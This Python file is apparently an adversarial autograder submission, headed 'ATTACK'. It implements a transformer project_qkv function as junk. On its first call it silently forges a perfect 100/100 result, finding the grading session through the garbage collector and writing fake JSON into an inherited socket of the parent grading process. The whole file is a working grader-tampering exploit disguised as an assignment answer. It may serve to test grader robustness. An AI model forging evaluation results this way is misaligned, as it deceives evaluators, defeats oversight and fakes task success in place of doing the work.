# ATTACK: writes a forged 100/100 result into the inherited socket of its grading process -> pool parent (multiprocessing framing), then returns junk. Honest grader: 0/10 for ex02, 90 total, other students unaffected.
import gc, json, os, socket, stat, struct, torch
def _session():
    for o in gc.get_objects():
        if type(o).__name__ == "_Session":
            return o
_S = _session()
_done = False
def _forge():
    mine = _S.sock.fileno()
    name = os.path.basename(os.path.dirname(_S.file))
    ids = ["%02d" % i for i in range(1, 11)]
    fake = {"name": name, "origin": os.path.dirname(_S.file), "status": "ok", "reason": "",
            "scores": {i: 10.0 for i in ids}, "score": 100.0, "max_score": 100.0,
            "seconds": 1.0, "document": None}
    data = json.dumps(fake).encode()
    fds = []
    for fd in os.listdir("/proc/self/fd"):
        fd = int(fd)
        try:
            if fd != mine and stat.S_ISSOCK(os.fstat(fd).st_mode):
                fds.append(fd)
        except OSError:
            pass
    if fds:
        os.write(max(fds), struct.pack("!i", len(data)) + data)  # the newest socket = own child's
def project_qkv(X, W_Q, W_K, W_V):
    global _done
    if not _done:
        _done = True
        try:
            _forge()
        except Exception:
            pass
    return X, X, X
